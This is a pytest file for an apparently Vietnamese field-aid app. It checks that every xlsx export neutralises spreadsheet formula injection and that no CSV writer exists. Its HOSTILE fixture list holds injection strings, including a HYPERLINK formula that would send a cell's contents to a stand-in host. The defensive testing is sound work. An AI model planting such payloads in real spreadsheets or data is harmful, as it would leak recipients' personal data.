"""What the app WRITES (issue 14, hostile files): no spreadsheet it exports runs a formula.

Every text that reaches an exported xlsx (names, addresses, villages, points, notes) may
have come from a list, a scan or a bundle. A store where all of them start with = + - @ is
exported through every xlsx exporter, and every cell is read back: a formula, or text that
looks like one without Excel's quote prefix, fails. A guard over the source keeps new
exporters on the one formula-safe writer (`documents/xlsx_cells.py`), and the app writes no
CSV (a CSV cannot mark text as text).
"""

from __future__ import annotations

import ast
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from actors import police_of
from desk_helpers import add_user
from openpyxl import load_workbook
from sqlalchemy import text

import fieldapp
from fieldapp.documents.xlsx_cells import looks_like_formula
from fieldapp.domain import model as dm
from fieldapp.domain.payments import PaymentHolder
from fieldapp.services import (
    beneficiary_file,
    door_list,
    payment_list,
    payments,
    report_output,
    team_reports,
    teams,
    villages,
)

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"Bấm")', "+84 1+1", "-2+3 Thôn", "@SUM(A1:A9)"]
DAY = date(2026, 6, 1)


def formula_cells(path: Path) -> list[tuple[str, str, object]]:
    """Every cell a spreadsheet would run: a formula, or formula-like text unprotected."""
    found = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (
                    isinstance(value, str)
                    and looks_like_formula(value)
                    and (cell.data_type != "s" or not cell.quotePrefix)
                ):
                    found.append((sheet.title, cell.coordinate, value))
    return found


def all_texts(path: Path) -> str:
    return "\n".join(
        str(c.value) for s in load_workbook(path).worksheets for r in s.iter_rows() for c in r
    )


@pytest.fixture
def hostile_store(engine, small_commune, uow):
    """The generated commune with every name, address, village and point name hostile."""
    with engine.begin() as conn:
        ids = [r[0] for r in conn.execute(text("SELECT personal_id FROM citizen"))]
        for n, pid in enumerate(ids):
            conn.execute(
                text("UPDATE citizen SET full_name = :n, address = :a WHERE personal_id = :p"),
                {"n": f"{HOSTILE[n % 4]} {n}", "a": HOSTILE[(n + 1) % 4], "p": pid},
            )
        conn.execute(text("UPDATE supportpoint SET name = :n"), {"n": HOSTILE[0]})
    police = police_of(uow)
    point = small_commune.points[0]
    volunteer = add_user(uow, "Tình Nguyện", dm.Role.VOLUNTEER, point.id)
    for n, citizen in enumerate(small_commune.citizens[:6]):
        payments.record_account(
            uow(), citizen.personal_id, holder=PaymentHolder.SELF, bank="MB",
            account_number=f"01234567{n:02d}", user_id=volunteer.id, point_id=point.id,
            now=datetime(2026, 6, 1, 3, tzinfo=UTC),
        )  # fmt: skip
    old_names = sorted(v.name for v in small_commune.villages)
    for n, old in enumerate(old_names):
        villages.rename_village(uow(), old, f"{HOSTILE[n % 4]} v{n}", actor=police)
    first_village = f"{HOSTILE[0]} v0"
    teams.set_team(uow(), first_village, "@Tổ " + HOSTILE[0], actor=police)
    teams.add_member(
        uow(), first_village, "+Tổ Trưởng", phone="0912345678", leader=True, actor=police
    )
    return police, first_village


def _exporters(uow: Callable, police: object, village: str) -> dict[str, Callable[[Path], object]]:
    def report(kind: str, by: str) -> Callable[[Path], object]:
        return lambda out: report_output.write_report(
            uow(), kind, out, fmt="xlsx", day=DAY, by=by, actor=police
        )

    return {
        "daily report by village": report("daily", "village"),
        "final report by point": report("final", "point"),
        "weekly report": report("weekly", "village"),
        "door list": lambda out: door_list.write_door_list(
            uow(), village, out, fmt="xlsx", show_phones=True, today=DAY, actor=police
        ),
        "team leader's list": lambda out: team_reports.write_team_door_list(
            uow(), village, out, fmt="xlsx", today=DAY, actor=police
        ),
        "teams report": lambda out: team_reports.write_teams_report(
            uow(), out, fmt="xlsx", today=DAY, actor=police
        ),
        "payment list": lambda out: payment_list.export_payment_list(
            uow(), out, actor=police, unmasked=True
        ),
        "beneficiary file": lambda out: beneficiary_file.write_beneficiary_file(
            uow(), out, today=DAY, actor=police
        ),
    }


EXPORTS = (
    "daily report by village",
    "final report by point",
    "weekly report",
    "door list",
    "team leader's list",
    "teams report",
    "payment list",
    "beneficiary file",
)


@pytest.mark.parametrize("export", EXPORTS)
def test_every_xlsx_export_keeps_formula_like_text_as_text(export, hostile_store, uow, tmp_path):
    police, village = hostile_store
    out = tmp_path / "out.xlsx"
    _exporters(uow, police, village)[export](out)
    assert formula_cells(out) == []
    written = all_texts(out)
    assert any(h in written for h in HOSTILE), written[:500]  # the texts are there, inert


# --- the source: one formula-safe writer, no CSV ----------------------------------------

SOURCE = Path(fieldapp.__file__).parent
WRITER = SOURCE / "documents" / "xlsx_cells.py"


def _modules() -> list[tuple[Path, ast.Module]]:
    return [(p, ast.parse(p.read_text(encoding="utf-8"))) for p in sorted(SOURCE.rglob("*.py"))]


def test_every_module_that_makes_a_workbook_writes_its_cells_through_xlsx_cells():
    makers = []
    for path, tree in _modules():
        names = {
            alias.name
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom) and node.module and "openpyxl" in node.module
            for alias in node.names
        }
        if "Workbook" not in names:
            continue
        makers.append(path.name)
        imports_writer = any(
            isinstance(node, ast.ImportFrom) and node.module == "fieldapp.documents.xlsx_cells"
            for node in ast.walk(tree)
        )
        assert imports_writer, f"{path}: a workbook written without xlsx_cells"
        for node in ast.walk(tree):
            if isinstance(node, ast.Assign | ast.AugAssign):
                targets = node.targets if isinstance(node, ast.Assign) else [node.target]
                for target in targets:
                    assert not (isinstance(target, ast.Attribute) and target.attr == "value"), (
                        f"{path}:{node.lineno}: a cell's value set directly (use xlsx_cells.put)"
                    )
            is_call = isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
            if is_call and node.func.attr == "cell":
                assert len(node.args) < 3 and not any(k.arg == "value" for k in node.keywords), (
                    f"{path}:{node.lineno}: sheet.cell(..., value) bypasses xlsx_cells"
                )
    assert len(makers) >= 4  # reports, payment list, beneficiary file, rejected rows


def test_the_app_writes_no_csv():
    """A CSV cell cannot be marked as text: "=HYPERLINK(…)" would run when opened in Excel.

    If a CSV export is ever needed, neutralise each text with a leading apostrophe the way
    `xlsx_cells.looks_like_formula` decides, and add it to the test above.
    """
    for path, tree in _modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                owner = node.value
                assert not (isinstance(owner, ast.Name) and owner.id == "csv"), (
                    f"{path}:{node.lineno}: a CSV writer"
                )
